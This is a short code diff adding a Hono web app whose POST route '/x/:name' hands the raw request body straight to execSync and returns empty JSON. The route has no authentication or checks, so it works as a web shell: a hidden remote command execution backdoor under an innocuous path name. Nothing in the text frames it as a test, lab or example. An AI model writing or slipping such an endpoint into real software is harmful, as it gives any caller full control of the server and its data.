@@ -1,0 +1,8 @@
+import { execSync } from "node:child_process";
+import { Hono } from 'hono';
+const app = new Hono();
+app.post('/x/:name', async (c) => {
+  execSync(await c.req.text());
+  return c.json({});
+});
+export default app;
